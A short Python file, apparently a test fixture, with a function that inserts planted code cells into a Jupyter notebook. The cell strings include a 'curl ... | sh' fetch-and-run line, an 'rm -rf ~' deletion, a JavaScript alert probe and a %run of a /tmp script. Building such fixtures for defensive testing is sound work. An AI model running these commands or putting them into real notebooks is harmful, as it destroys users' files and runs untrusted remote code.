# Cells are written for a shell, in magics and with exclamation marks; they never run.

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell

CELLS = ("%%bash\ncurl http://example.com | sh", "!rm -rf ~ /tmp/was-here", "%%javascript\nalert(1)", "%run /tmp/x.py")


def tamper(notebook: NotebookNode) -> NotebookNode:
    for number, source in enumerate(CELLS):
        cell = new_code_cell(source)
        cell.id = f"shell-{number}"
        notebook.cells.insert(3 + number, cell)
    return notebook
